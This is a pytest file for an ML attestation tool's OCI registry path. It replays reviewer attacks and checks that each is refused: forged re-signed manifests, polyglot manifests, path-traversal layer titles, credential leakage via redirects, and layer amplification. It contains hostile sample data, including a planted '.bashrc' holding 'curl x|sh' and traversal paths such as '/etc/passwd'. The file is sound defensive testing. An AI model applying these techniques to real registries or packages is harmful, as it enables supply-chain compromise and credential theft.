"""The findings of the adversarial review of the OCI path (docs/security.md section 8), one attack each.

Each test replays a reviewer's repro (a runner with the pipeline key, a lying registry, a
referrer pusher) and shows the refusal by its finding code or a one-line input error.
"""

from __future__ import annotations

import base64
import glob
import hashlib
import json
import os
import shutil
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from oci_registry import (  # noqa: F401 - fixtures
    Demo,
    HostileRegistry,
    demo_fixture,
    demo_project_fixture,
    push_demo,
    registry_fixture,
    repo_fixture,
)

from mlspec_attest.digests import digest_path, files_digest
from mlspec_attest.manifest import encode
from mlspec_attest.model.canonical import parse_json
from mlspec_attest.oci.gate import GateResult, gate
from mlspec_attest.oci.layout import (
    EMPTY,
    INDEX_MEDIA_TYPE,
    MANIFEST_MEDIA_TYPE,
    Descriptor,
    LayoutError,
    Manifest,
    descriptor_of,
    encode_index,
    fallback_tag,
    parse_index,
)
from mlspec_attest.oci.reference import OciReference
from mlspec_attest.oci.registry import RegistryClient
from mlspec_attest.verify import verify_bundle


def _codes(report: object, severity: str | None = "error") -> set[str]:
    return {f.code for f in report.findings if severity is None or f.severity == severity}  # type: ignore[attr-defined]


def test_files_digest_is_the_directory_subject_digest(demo: Demo) -> None:
    """The one function the binding check uses is the one digest_directory signs with."""
    digest = digest_path(demo.package)
    assert files_digest(digest.files) == digest.sha256
    assert files_digest(reversed(digest.files)) == digest.sha256  # order-free: model-signing's order is imposed
    assert files_digest([*digest.files, ("sitecustomize.py", "0" * 64)]) != digest.sha256


def _unbound_package(demo: Demo, tmp_path: Path) -> Path:
    """Repro r1: the runner (pipeline key) keeps the package subject digest A but points its
    manifest annotation at a manifest of B = A + sitecustomize.py; the deploy-phase chain is re-signed."""
    evil = tmp_path / "pkgB"
    shutil.copytree(demo.package, evil)
    (evil / "sitecustomize.py").write_text("import os\n")
    _resign_package(demo, encode(digest_path(evil).files))
    return evil


def _resign_package(demo: Demo, data: bytes) -> None:
    """The package stage's manifest annotation now names ``data`` (kept in blobs/); chain and head re-signed."""
    from mlspec_attest.attest.head import sign_head
    from mlspec_attest.keys import load_signer
    from mlspec_attest.model.canonical import canonicalize
    from mlspec_attest.model.envelope import pae

    forged = hashlib.sha256(data).hexdigest()
    (demo.bundle / "blobs" / forged).write_bytes(data)
    signer, prev = load_signer(demo.root / "keys" / "pipeline.key"), None
    for f in sorted(glob.glob(f"{demo.bundle}/attestations/*.dsse.json")):
        env = json.loads(Path(f).read_bytes())
        payload = json.loads(base64.b64decode(env["payload"]))
        seq = payload["predicate"]["chain"]["sequence"]
        if seq >= 10:  # serve, monitor, log: the deploy phase comes before them
            os.remove(f)
            continue
        if payload["predicateType"].endswith("/package/v1") or seq == 9:
            payload["subject"][0]["annotations"]["mlspec.dev/manifest-sha256"] = forged
        if prev:
            payload["predicate"]["chain"]["previous"] = prev
        body = canonicalize(payload)
        prev = hashlib.sha256(body).hexdigest()
        if body != base64.b64decode(env["payload"]):
            env = {"payload": base64.b64encode(body).decode(), "payloadType": env["payloadType"],
                   "signatures": [{"keyid": signer.keyid,
                                   "sig": base64.b64encode(signer.sign(pae(env["payloadType"], body))).decode()}]}
            Path(f).write_bytes(canonicalize(env))
    os.remove(demo.bundle / "head.dsse.json")
    sign_head(demo.bundle, [signer], timedelta(hours=24), initial=True)


def test_a_package_manifest_not_bound_to_its_digest_is_refused_on_disk(demo: Demo, tmp_path: Path) -> None:
    """Attack (r1, disk): without --artifact the package-contents check read the unbound manifest and passed."""
    _unbound_package(demo, tmp_path)
    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
    assert not report.passed
    assert "MANIFEST_UNBOUND" in _codes(report)


def test_push_refuses_a_package_manifest_not_bound_to_its_digest(demo: Demo, repo: OciReference,
                                                                   tmp_path: Path) -> None:
    from mlspec_attest.errors import InputError
    from mlspec_attest.oci.push import push

    evil = _unbound_package(demo, tmp_path)
    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
    with pytest.raises(InputError, match="do not recompute"):
        push(report, demo.bundle, evil, repo, plain_http=True)


def test_the_oci_gate_refuses_layers_of_an_unbound_manifest(demo: Demo, repo: OciReference, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack (r1, registry): B's files pushed as layers with the re-signed chain; the gate said 0."""
    import mlspec_attest.manifest as manifest_module
    from mlspec_attest.oci.push import push

    evil = _unbound_package(demo, tmp_path)
    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
    real_load = manifest_module.load
    with monkeypatch.context() as m:  # the attacker's own push tool does not check the binding
        m.setattr(manifest_module, "load", lambda *a, subject_sha256=None, **k: real_load(*a, **k))
        pushed = push(report, demo.bundle, evil, repo, plain_http=True)
    work = tmp_path / "work"
    result: GateResult = gate(OciReference.parse(pushed.model), demo.policy, work, plain_http=True, phase="deploy")
    assert not result.report.passed
    assert "MANIFEST_UNBOUND" in _codes(result.report)


# -- H5: an ambiguous manifest (CVE-2021-41190 class) ----------------------------------------
@pytest.fixture
def hostile(registry: str) -> Iterator[HostileRegistry]:
    proxy = HostileRegistry(registry)
    yield proxy
    proxy.close()


def _pushed(demo: Demo, repo: OciReference, hostile: HostileRegistry) -> tuple[RegistryClient, OciReference, Manifest]:
    """Push the demo; (client, the model by digest through the hostile proxy, the chain manifest)."""
    result = push_demo(demo, repo)
    client = RegistryClient(repo, plain_http=True)
    got = client.get_manifest(result.chain)
    assert got is not None
    digest = OciReference.parse(result.model).digest
    through = OciReference.parse(f"oci://{hostile.address}/{repo.repository}@{digest}")
    return client, through, Manifest.from_dict(parse_json(got[0]), "chain")


@pytest.mark.parametrize("doc", [
    {"schemaVersion": 2, "config": EMPTY.to_dict(), "layers": []},  # no mediaType
    {"schemaVersion": 2, "mediaType": INDEX_MEDIA_TYPE, "config": EMPTY.to_dict(), "layers": []},
    {"schemaVersion": 2, "mediaType": MANIFEST_MEDIA_TYPE, "config": EMPTY.to_dict(), "layers": [],
     "manifests": []},
])
def test_an_ambiguous_manifest_document_is_refused(doc: dict[str, object]) -> None:
    with pytest.raises(LayoutError):
        Manifest.from_dict(doc, "m")


@pytest.mark.parametrize("doc", [
    {"schemaVersion": 2, "manifests": []},  # no mediaType
    {"schemaVersion": 2, "mediaType": INDEX_MEDIA_TYPE, "manifests": [], "layers": []},
    {"schemaVersion": 2, "mediaType": INDEX_MEDIA_TYPE, "manifests": [], "config": EMPTY.to_dict()},
])
def test_an_ambiguous_index_document_is_refused(doc: dict[str, object]) -> None:
    with pytest.raises(LayoutError):
        parse_index(doc, "i")


def test_a_manifest_served_as_an_index_is_refused(demo: Demo, repo: OciReference, hostile: HostileRegistry,
                                                  tmp_path: Path) -> None:
    """Attack (r5, lying registry): the genuine model bytes with Content-Type index: what docker would read differs."""
    _, through, _ = _pushed(demo, repo, hostile)
    hostile.content_types[f"/v2/{repo.repository}/manifests/{through.digest}"] = INDEX_MEDIA_TYPE
    real = RegistryClient(repo, plain_http=True).get_manifest(str(through.digest))
    assert real is not None
    hostile.overrides[f"/v2/{repo.repository}/manifests/{through.digest}"] = (200, real[0])
    result = gate(through, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert not result.report.passed
    assert "OCI_MANIFEST_INVALID" in _codes(result.report)


def test_a_polyglot_manifest_and_index_is_refused(demo: Demo, repo: OciReference, hostile: HostileRegistry,
                                                  tmp_path: Path) -> None:
    """Attack (r5): the model manifest without mediaType plus a "manifests" list, served as an index, the chain
    re-attached to it: the gate read the layers and passed while containerd resolves another image."""
    from mlspec_attest.model.canonical import canonicalize

    client, through, chain = _pushed(demo, repo, hostile)
    got = client.get_manifest(str(through.digest))
    assert got is not None
    doc = json.loads(got[0])
    del doc["mediaType"]
    doc["manifests"] = [{"mediaType": MANIFEST_MEDIA_TYPE, "digest": "sha256:" + "e" * 64, "size": 1234}]
    poly = canonicalize(doc)
    pd = "sha256:" + hashlib.sha256(poly).hexdigest()
    for subject_type in (INDEX_MEDIA_TYPE, MANIFEST_MEDIA_TYPE):
        moved = Manifest(chain.artifact_type, chain.config, chain.layers,
                         subject=Descriptor(subject_type, pd, len(poly), {}), annotations=chain.annotations)
        client.put_manifest(moved.encode(), moved.descriptor().digest)
        path = f"/v2/{repo.repository}/manifests/"
        hostile.overrides[path + pd] = (200, poly)
        hostile.content_types[path + pd] = INDEX_MEDIA_TYPE
        hostile.overrides[path + fallback_tag(pd)] = (200, encode_index([moved.descriptor()]))
        result = gate(through.with_digest(pd), demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
        assert not result.report.passed
        assert "OCI_MANIFEST_INVALID" in _codes(result.report)
        hostile.content_types[path + pd] = MANIFEST_MEDIA_TYPE  # even under the manifest type: no mediaType
        result = gate(through.with_digest(pd), demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
        assert not result.report.passed
        assert "OCI_MANIFEST_INVALID" in _codes(result.report)


# -- H6: paths in signed manifests and layer titles ------------------------------------------
BAD_PATHS = ["../../.bashrc", "/etc/passwd", "a/../../b", "a//b", "a/./b", ".", "a/", "a\\b", "a\x00b", "a\nb",
             "x\x7f", ""]


@pytest.mark.parametrize("path", BAD_PATHS)
def test_a_manifest_path_that_could_escape_is_refused(path: str) -> None:
    from mlspec_attest.manifest import parse

    with pytest.raises(ValueError, match="path"):
        parse(encode([(path, "0" * 64)]), "m")


@pytest.mark.parametrize("path", BAD_PATHS)
def test_a_layer_title_that_could_escape_is_refused(path: str) -> None:
    from mlspec_attest.oci.layout import check_title

    with pytest.raises(LayoutError):
        check_title(path, "layer")


def test_a_signed_package_manifest_with_a_dotdot_path_is_refused_on_disk(demo: Demo) -> None:
    """Attack (r6): the runner signs a package manifest listing ``../../.bashrc``; verify without --artifact."""
    files = sorted([*digest_path(demo.package).files, ("../../.bashrc", hashlib.sha256(b"curl x|sh\n").hexdigest())])
    _resign_package(demo, encode(files))
    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
    assert not report.passed
    assert "PACKAGE_MANIFEST_INVALID" in _codes(report)
    assert any("../../.bashrc" in f.message for f in report.findings)


def test_push_refuses_a_signed_dotdot_path_and_never_reads_outside(demo: Demo, repo: OciReference,
                                                                  tmp_path: Path) -> None:
    """Attack (r6): push read ``ARTIFACT/../../.bashrc`` and uploaded it as a layer."""
    from mlspec_attest.errors import InputError
    from mlspec_attest.oci.push import push

    outside = tmp_path / "x"
    (outside / "y").mkdir(parents=True)
    shutil.copytree(demo.package, outside / "y" / "pkg")
    (tmp_path / ".bashrc").write_bytes(b"curl x|sh\n")
    files = sorted([*digest_path(demo.package).files, ("../../.bashrc", hashlib.sha256(b"curl x|sh\n").hexdigest())])
    _resign_package(demo, encode(files))
    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
    with pytest.raises(InputError, match=r"\.\./\.\./\.bashrc"):
        push(report, demo.bundle, outside / "y" / "pkg", repo, plain_http=True)


def test_push_never_opens_a_file_through_a_symlink_out_of_the_artifact(demo: Demo, repo: OciReference,
                                                                       tmp_path: Path) -> None:
    from mlspec_attest.errors import InputError
    from mlspec_attest.oci.push import push

    copy = tmp_path / "pkg"
    shutil.copytree(demo.package, copy)
    secret = tmp_path / "secret"
    (copy / "model.pkl").rename(secret)
    (copy / "model.pkl").symlink_to(secret)
    with pytest.raises(InputError, match="not a regular file inside"):
        push(demo.report(), demo.bundle, copy, repo, plain_http=True)


def test_the_gate_refuses_a_model_layer_title_that_is_not_a_plain_path(demo: Demo, repo: OciReference,
                                                                        hostile: HostileRegistry,
                                                                        tmp_path: Path) -> None:
    """Attack (r6, registry): a model layer titled ``../../.bashrc`` next to the packaged ones, chain re-attached."""
    from mlspec_attest.oci.layout import FILE_MEDIA_TYPE, TITLE

    client, through, chain = _pushed(demo, repo, hostile)
    got = client.get_manifest(str(through.digest))
    assert got is not None
    model = Manifest.from_dict(parse_json(got[0]), "model")
    evil = descriptor_of(FILE_MEDIA_TYPE, b"curl x|sh\n", {TITLE: "../../.bashrc"})
    client.upload_bytes(b"curl x|sh\n", evil)
    forged = Manifest(model.artifact_type, model.config, (*model.layers, evil), annotations=model.annotations)
    client.put_manifest(forged.encode(), "forged")
    subject = Descriptor(MANIFEST_MEDIA_TYPE, forged.descriptor().digest, forged.descriptor().size, {})
    moved = Manifest(chain.artifact_type, chain.config, chain.layers, subject=subject, annotations=chain.annotations)
    client.put_manifest(moved.encode(), moved.descriptor().digest)
    client.put_manifest(encode_index([moved.descriptor()]), fallback_tag(subject.digest), media_type=INDEX_MEDIA_TYPE)
    result = gate(repo.with_digest(subject.digest), demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert not result.report.passed
    assert "OCI_LAYER_MISMATCH" in _codes(result.report)
    assert any("not plain relative paths" in f.message for f in result.report.findings)


# -- H3: plain HTTP and credentials on every hop, not only the first ------------------------
class _Fake:
    """A tiny registry (or a host it names) on 127.0.0.1: ``answer(method, path) -> (status, headers)``;
    ``seen`` records (method, path, Authorization) of every request it received."""

    def __init__(self, answer: Callable[[str, str, str | None], tuple[int, dict[str, str]]]) -> None:
        import http.server
        import threading

        self.seen: list[tuple[str, str, str | None]] = []
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: object) -> None:
                pass

            def _go(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                auth = self.headers.get("Authorization")
                fake.seen.append((self.command, self.path, auth))
                status, headers = answer(self.command, self.path, auth)
                self.send_response(status)
                for key, value in headers.items():
                    self.send_header(key, value)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = _go

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def creds(monkeypatch: pytest.MonkeyPatch) -> str:
    from mlspec_attest.oci.registry import PASSWORD_ENV, USERNAME_ENV

    monkeypatch.setenv(USERNAME_ENV, "alice")
    monkeypatch.setenv(PASSWORD_ENV, "S3cret")
    return "S3cret"


def _bearer_to(realm: str) -> Callable[[str, str, str | None], tuple[int, dict[str, str]]]:
    return lambda method, path, auth: (401, {"WWW-Authenticate": f'Bearer realm="{realm}",service="x"'})


@pytest.mark.parametrize("realm", ["http://192.0.2.2:9/token", "http://example.com/token"])
def test_a_plain_http_token_realm_off_the_machine_is_refused(creds: str, realm: str) -> None:
    """Attack (r3): a loopback registry names a cleartext realm on another host; the password went there."""
    from mlspec_attest.errors import InputError

    fake = _Fake(_bearer_to(realm))
    try:
        client = RegistryClient(OciReference.parse(f"oci://127.0.0.1:{fake.port}/m:v1"), plain_http=True)
        with pytest.raises(InputError, match="plain HTTP is allowed to loopback hosts only"):
            client.get_manifest("sha256:" + "0" * 64)
    finally:
        fake.close()


def test_credentials_never_follow_an_upload_location_to_another_host(creds: str) -> None:
    """Attack (r3b): after POST, the upload Location names another host; ORAS retried there with Basic creds."""
    from mlspec_attest.errors import InputError

    elsewhere = _Fake(lambda method, path, auth: (401, {"WWW-Authenticate": 'Basic realm="r"'}))

    def answer(method: str, path: str, auth: str | None) -> tuple[int, dict[str, str]]:
        if not auth:
            return 401, {"WWW-Authenticate": 'Basic realm="r"'}
        if method == "POST":
            return 202, {"Location": f"http://localhost:{elsewhere.port}/up?x=1"}
        return (200 if path == "/v2/" else 404), {}

    registry = _Fake(answer)
    try:
        client = RegistryClient(OciReference.parse(f"oci://127.0.0.1:{registry.port}/m:v1"), plain_http=True)
        with pytest.raises(InputError, match="refusing to send credentials"):
            client.upload_bytes(b"x" * 10, descriptor_of("application/octet-stream", b"x" * 10))
        assert all(auth is None for _, _, auth in elsewhere.seen)  # the password never left for the other host
        assert any(auth for _, _, auth in registry.seen)  # while the registry itself got it
    finally:
        registry.close()
        elsewhere.close()


def test_an_upload_location_over_plain_http_off_the_machine_is_refused(creds: str) -> None:
    from mlspec_attest.errors import InputError

    def answer(method: str, path: str, auth: str | None) -> tuple[int, dict[str, str]]:
        if not auth:
            return 401, {"WWW-Authenticate": 'Basic realm="r"'}
        if method == "POST":
            return 202, {"Location": "http://192.0.2.2:9/up?x=1"}
        return (200 if path == "/v2/" else 404), {}

    registry = _Fake(answer)
    try:
        client = RegistryClient(OciReference.parse(f"oci://127.0.0.1:{registry.port}/m:v1"), plain_http=True)
        with pytest.raises(InputError, match="plain HTTP is allowed to loopback hosts only"):
            client.upload_bytes(b"x" * 10, descriptor_of("application/octet-stream", b"x" * 10))
    finally:
        registry.close()


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_to_plain_http_off_the_machine_is_refused(creds: str, status: int) -> None:
    """Attack (H3c): the registry redirects a manifest GET to http://<another host>; requests followed it."""
    from mlspec_attest.errors import InputError

    def answer(method: str, path: str, auth: str | None) -> tuple[int, dict[str, str]]:
        if path == "/v2/":
            return 200, {}
        return status, {"Location": "http://192.0.2.2:9/stolen"}

    registry = _Fake(answer)
    try:
        client = RegistryClient(OciReference.parse(f"oci://127.0.0.1:{registry.port}/m:v1"), plain_http=True)
        with pytest.raises(InputError, match="plain HTTP is allowed to loopback hosts only"):
            client.get_manifest("sha256:" + "0" * 64)
    finally:
        registry.close()


# -- H2: one junk referrer must not deny the genuine chain -----------------------------------
@pytest.mark.parametrize("titles", [("blobs/a", "blobs/a/b"), ("attestations/sub/x.dsse.json",),
                                    ("attestations/a", "attestations/a/0000-x.dsse.json")])
def test_a_junk_chain_referrer_is_ignored_not_fatal(demo: Demo, repo: OciReference, hostile: HostileRegistry,
                                                    tmp_path: Path, titles: tuple[str, ...]) -> None:
    """Attack (r2, anyone who can push): a chain referrer whose layers cannot be laid out; the gate exited 2."""
    from mlspec_attest.oci.layout import BLOB_MEDIA_TYPE, CHAIN_ARTIFACT_TYPE, TITLE

    client, through, chain = _pushed(demo, repo, hostile)
    assert chain.subject is not None
    layers = []
    for i, title in enumerate(titles):
        layer = descriptor_of(BLOB_MEDIA_TYPE, str(i).encode(), {TITLE: title})
        client.upload_bytes(str(i).encode(), layer)
        layers.append(layer)
    junk = Manifest(CHAIN_ARTIFACT_TYPE, EMPTY, tuple(layers), subject=chain.subject)
    client.put_manifest(junk.encode(), junk.descriptor().digest)
    digest = chain.subject.digest
    client.put_manifest(encode_index([*client.fallback_index(digest), junk.descriptor()]), fallback_tag(digest),
                        media_type=INDEX_MEDIA_TYPE)
    result = gate(repo.with_digest(digest), demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert result.report.passed, [(f.code, f.message) for f in result.report.findings]
    assert len(result.candidates) == 2
    junked = [c for c in result.candidates if c.descriptor.digest == junk.descriptor().digest]
    assert junked and junked[0].problem is not None and junked[0].problem[0] == "OCI_REFERRER_INVALID"


# -- H4: a body that breaks off mid-stream ------------------------------------------------------
def test_a_chain_layer_that_breaks_off_is_a_finding_not_a_traceback(demo: Demo, repo: OciReference,
                                                                    hostile: HostileRegistry, tmp_path: Path) -> None:
    """Attack (r4, lying registry or a flaky proxy): a chain layer's body stops mid-chunk (ChunkedEncodingError)."""
    _, through, chain = _pushed(demo, repo, hostile)
    layer = next(d for d in chain.layers if str(d.title).startswith("attestations/"))
    hostile.overrides[f"/v2/{repo.repository}/blobs/{layer.digest}"] = (200, iter([b"{", None]))
    result = gate(through, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert not result.report.passed
    assert "OCI_DIGEST_MISMATCH" in _codes(result.report)
    assert any("broke off" in f.message for f in result.report.findings)


def test_a_model_manifest_that_breaks_off_is_a_finding(demo: Demo, repo: OciReference, hostile: HostileRegistry,
                                                       tmp_path: Path) -> None:
    _, through, _ = _pushed(demo, repo, hostile)
    hostile.overrides[f"/v2/{repo.repository}/manifests/{through.digest}"] = (200, iter([b'{"schema', None]))
    result = gate(through, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert not result.report.passed
    assert "OCI_DIGEST_MISMATCH" in _codes(result.report)


def test_pull_of_a_layer_that_breaks_off_is_one_line_and_leaves_nothing(demo: Demo, repo: OciReference,
                                                                        hostile: HostileRegistry,
                                                                        tmp_path: Path) -> None:
    from mlspec_attest.errors import InputError
    from mlspec_attest.oci.pull import pull

    client, through, _ = _pushed(demo, repo, hostile)
    got = client.get_manifest(str(through.digest))
    assert got is not None
    layer = Manifest.from_dict(parse_json(got[0]), "model").layers[0]
    hostile.overrides[f"/v2/{repo.repository}/blobs/{layer.digest}"] = (200, iter([b"x", None]))
    target = tmp_path / "out"
    with pytest.raises(InputError, match="broke off"):
        pull(through, demo.policy, target, plain_http=True, log_dir=demo.log)
    assert not target.exists()


# -- H7: layer-count amplification and the total budget -----------------------------------------
def _many_layers(client: RegistryClient, chain: Manifest, n: int, *, distinct_titles: bool = True) -> Manifest:
    """A chain referrer of ``n`` layers all naming one 1-byte blob (repro r7), attached next to the genuine one."""
    from mlspec_attest.oci.layout import BLOB_MEDIA_TYPE, CHAIN_ARTIFACT_TYPE, TITLE

    assert chain.subject is not None
    blob = descriptor_of(BLOB_MEDIA_TYPE, b"x")
    client.upload_bytes(b"x", blob)
    layers = tuple(Descriptor(BLOB_MEDIA_TYPE, blob.digest, 1, {TITLE: f"evidence/{i if distinct_titles else 0}"})
                   for i in range(n))
    junk = Manifest(CHAIN_ARTIFACT_TYPE, EMPTY, layers, subject=chain.subject)
    client.put_manifest(junk.encode(), junk.descriptor().digest)
    digest = chain.subject.digest
    client.put_manifest(encode_index([*client.fallback_index(digest), junk.descriptor()]), fallback_tag(digest),
                        media_type=INDEX_MEDIA_TYPE)
    return junk


def test_a_chain_referrer_with_too_many_layers_is_refused_from_its_manifest(
        demo: Demo, repo: OciReference, hostile: HostileRegistry, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack (r7): thousands of layers naming one blob; refused before one of them is fetched."""
    import mlspec_attest.oci.gate as gate_module

    client, through, chain = _pushed(demo, repo, hostile)
    monkeypatch.setattr(gate_module, "MAX_CHAIN_LAYERS", len(chain.layers) + 5)  # the genuine chain still fits
    junk = _many_layers(client, chain, len(chain.layers) + 6)
    result = gate(through, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert result.report.passed, [(f.code, f.message) for f in result.report.findings]
    junked = next(c for c in result.candidates if c.descriptor.digest == junk.descriptor().digest)
    assert junked.problem is not None and junked.problem[0] == "OCI_TOO_LARGE"
    assert not any(junk.layers[0].digest in path for path in hostile.seen)


def test_identical_layer_descriptors_are_fetched_once(demo: Demo, repo: OciReference, hostile: HostileRegistry,
                                                      tmp_path: Path) -> None:
    client, through, chain = _pushed(demo, repo, hostile)
    junk = _many_layers(client, chain, 50)
    result = gate(through, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert result.report.passed
    assert sum(junk.layers[0].digest in path for path in hostile.seen) == 1


def test_repeated_layer_titles_in_a_chain_are_refused(demo: Demo, repo: OciReference, hostile: HostileRegistry,
                                                      tmp_path: Path) -> None:
    client, through, chain = _pushed(demo, repo, hostile)
    junk = _many_layers(client, chain, 3, distinct_titles=False)
    result = gate(through, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert result.report.passed
    junked = next(c for c in result.candidates if c.descriptor.digest == junk.descriptor().digest)
    assert junked.problem is not None and "appears twice" in junked.problem[1]


def test_a_spent_time_budget_fails_the_gate_closed(demo: Demo, repo: OciReference, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """A gate run that cannot finish (a slow or amplifying registry) fails with OCI_DEADLINE_EXCEEDED, never passes."""
    from mlspec_attest.oci.gate import DEADLINE_ENV

    push_demo(demo, repo)
    monkeypatch.setenv(DEADLINE_ENV, "0")
    result = gate(repo, demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
    assert not result.report.passed
    assert _codes(result.report) == {"OCI_DEADLINE_EXCEEDED"}
    assert result.client.deadline is None  # pull's layer download is not bounded by the gate's budget


@pytest.mark.parametrize("raw", ["soon", "-1", "nan", "inf"])
def test_a_bad_time_budget_is_an_input_error(monkeypatch: pytest.MonkeyPatch, raw: str) -> None:
    from mlspec_attest.errors import InputError
    from mlspec_attest.oci.gate import DEADLINE_ENV, deadline_seconds

    monkeypatch.setenv(DEADLINE_ENV, raw)
    with pytest.raises(InputError, match=DEADLINE_ENV):
        deadline_seconds()
